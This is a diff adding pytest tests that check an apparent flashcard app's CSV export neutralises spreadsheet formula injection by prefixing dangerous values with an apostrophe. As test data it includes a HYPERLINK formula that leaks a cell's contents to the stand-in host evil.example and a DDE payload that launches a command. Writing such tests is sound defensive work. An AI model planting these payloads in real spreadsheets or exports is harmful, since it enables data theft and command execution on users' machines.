@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
 import io
 
@@ -117,3 +118,24 @@ def test_csv_has_the_exact_header_and_a_row_that_round_trips() -> None:
     ]
     assert rows[1][8].endswith("+00:00") and dt.datetime.fromisoformat(rows[1][9]) == card.due.replace(microsecond=0)
     assert rows[2][:2] == ["gone-001", "(no longer in the banks)"]
+
+
+@pytest.mark.parametrize(
+    "note",
+    ['=HYPERLINK("http://evil.example/?"&A1, "see the idea")', "+1 trick: sum(A1:A9)", "-2+3", "@SUM(1+1)"],
+)
+def test_a_note_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(note: str) -> None:
+    question = make_question(Round.CODING, 1, title="=cmd|' /C calc'!A0")
+    card, _ = new_card(question.id, note, T0)
+    rows = list(csv.reader(io.StringIO(export_csv([(card, question)]), newline="")))
+    assert rows[1][5] == "'" + note
+    assert rows[1][1] == "'=cmd|' /C calc'!A0"  # a title from a server's own bank directory
+
+
+def test_a_stored_note_starting_with_a_tab_or_return_is_quoted_and_an_inner_sign_is_kept() -> None:
+    question = make_question(Round.CODING, 1, title="Sum = target, in O(n)")
+    card = new_card(question.id, "two pointers; a-b = 0 => done", T0)[0]
+    stored = [dataclasses.replace(card, note=note) for note in ("\t=1+1", "\r@A1")]  # as a database could hold
+    rows = list(csv.reader(io.StringIO(export_csv([(c, question) for c in (card, *stored)]), newline="")))
+    assert (rows[1][1], rows[1][5]) == ("Sum = target, in O(n)", "two pointers; a-b = 0 => done")
+    assert [row[5] for row in rows[2:]] == ["'\t=1+1", "'\r@A1"]
